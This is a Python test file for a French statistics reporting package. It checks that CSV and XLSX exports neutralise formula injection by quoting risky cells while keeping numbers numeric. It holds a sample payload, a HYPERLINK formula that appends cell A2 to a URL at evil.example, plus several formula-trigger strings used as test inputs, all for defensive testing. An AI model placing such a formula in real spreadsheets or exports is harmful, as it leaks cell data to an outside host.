"""Neutral exports: no text of a CSV or XLSX export is ever a live formula (OWASP, CSV
injection), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pandas as pd
import pytest

from sdsf.core import columns as c
from sdsf.reports import tables, workbook
from sdsf.reports.cells import neutral
from sdsf.reports.workbook import Column, Sheet

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Voir")'


@pytest.mark.parametrize(
    "text",
    [
        EVIL,
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "\tplain text after a tab",
        "\r\n=1+1",
        "-",
        "=",
        "+33 6 12 34 56 78",
        "-5,2 pts",
    ],
)
def test_a_text_a_spreadsheet_would_run_gets_a_quote(text):
    assert neutral(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    [
        "Nantes",
        "",
        " =1+1",  # only the first character counts (OWASP)
        "a=1+1",
        "'=1+1",  # already quoted: left as it is
        "Sources : =1+1",
        "-5,2",  # a number written the French way, in a text column
        "-1\u202f234,5",
        "-0.5",
        "12",
        None,
        5,
        -5,
        -5.2,
        Decimal("-5.2"),
        True,
    ],
)
def test_anything_else_is_left_as_it_is(value):
    assert neutral(value) is value or neutral(value) == value
    assert type(neutral(value)) is type(value)


def _coverage_table(label: str, method: str = "taux publié") -> pd.DataFrame:
    row = {
        c.CODE: "44109",
        c.LABEL: label,
        c.YEAR: 2023,
        **dict.fromkeys(c.DISPLAY_RATES, -5.25),
        c.CHILDREN_UNDER_3: 1234.0,
        c.PLACES_TOTAL: 987.0,
        c.METHOD: method,
        c.SOURCE: "@source",
        c.SIMULATED: True,
    }
    return pd.DataFrame([row])


def _cells(data: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def _no_formula(data: bytes) -> list[openpyxl.cell.Cell]:
    cells = _cells(data)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    return cells


def test_coverage_csv_quotes_texts_and_keeps_numbers():
    text = tables.to_csv(_coverage_table(EVIL, method="=1+1"))
    assert text.startswith("\ufeffCode;Libellé;")
    header, row = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert header[0] == "Code"
    assert row[0] == "44109"
    assert row[1] == "'" + EVIL
    assert row[2] == "2023"
    assert row[3:9] == ["-5,2"] * 6  # a negative rate: a number, no quote
    assert row[9:11] == ["1234", "987"]
    assert row[11:] == ["'=1+1", "", "'@source", "oui"]  # no perimeter: the whole territory


def test_coverage_xlsx_stores_texts_as_quoted_strings_and_numbers_as_numbers():
    data = tables.to_xlsx(_coverage_table(EVIL, method="=1+1"), "=1+1 titre", simulated=True)
    cells = _no_formula(data)
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == "'=1+1 titre" and ws["A1"].data_type == "s"
    assert ws["B5"].value == "'" + EVIL and ws["B5"].data_type == "s"
    assert ws["L5"].value == "'=1+1" and ws["N5"].value == "'@source"  # M: perimeter
    assert ws["C5"].value == 2023
    assert ws["D5"].value == -5.2 and ws["D5"].data_type == "n"  # a negative rate, rounded
    assert ws["D5"].number_format == "0.0"
    assert ws["J5"].value == 1234 and ws["J5"].data_type == "n"
    assert all(
        not str(cell.value).startswith(("=", "+", "-", "@", "\t", "\r"))
        for cell in cells
        if cell.data_type == "s"
    )


def _sheet() -> Sheet:
    return Sheet(
        name="Feuille",
        title="=1+1",
        columns=[
            Column("Libellé"),
            Column("+Taux", 1),
            Column("Nombre", 0),
            Column("Note"),
        ],
        rows=[
            [EVIL, -5.25, -12, "-5,2"],
            ["\t=1+1", Decimal("3.14"), 7, -3],
            ["Nantes", None, None, None],
        ],
        sources="=A1",
        notice="@notice",
        simulated=False,
    )


def test_sheet_csv_quotes_texts_and_keeps_numbers():
    text = workbook.to_csv(_sheet())
    assert text.startswith("\ufeff")
    lines = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert lines[0] == ["Libellé", "'+Taux", "Nombre", "Note"]
    assert lines[1] == ["'" + EVIL, "-5,2", "-12", "-5,2"]
    assert lines[2] == ["'\t=1+1", "3,1", "7", "-3"]
    assert lines[3] == ["Nantes", "", "", ""]
    assert lines[4] == ["Sources : =A1"]  # not at the start of the cell: harmless


def test_sheet_xlsx_stores_texts_as_quoted_strings_and_numbers_as_numbers():
    sheet = _sheet()
    sheet.sources = "x"
    data = workbook.to_xlsx([sheet, Sheet("Seconde", "+titre", [Column("@a")], [["-x"]], "s")])
    cells = _no_formula(data)
    book = openpyxl.load_workbook(io.BytesIO(data))
    ws = book["Feuille"]
    assert ws["A1"].value == "'=1+1"
    assert ws["A2"].value == "'@notice"
    assert [cell.value for cell in ws[4]] == ["Libellé", "'+Taux", "Nombre", "Note"]
    assert ws["A5"].value == "'" + EVIL and ws["A5"].data_type == "s"
    assert ws["B5"].value == -5.25 and ws["B5"].data_type == "n"
    assert ws["B5"].number_format == "# ##0.0"
    assert ws["C5"].value == -12 and ws["C5"].data_type == "n"
    assert ws["D5"].value == "-5,2"  # a number in a text column: text, no quote needed
    assert ws["A6"].value == "'\t=1+1"
    assert ws["B6"].value == pytest.approx(3.14) and ws["D6"].value == -3
    assert ws["A9"].value == "Sources : x"
    second = book["Seconde"]
    assert [second["A1"].value, second["A4"].value, second["A5"].value] == [
        "'+titre",
        "'@a",
        "'-x",
    ]
    assert all(
        not str(cell.value).startswith(("=", "+", "@", "\t", "\r"))
        for cell in cells
        if cell.data_type == "s"
    )
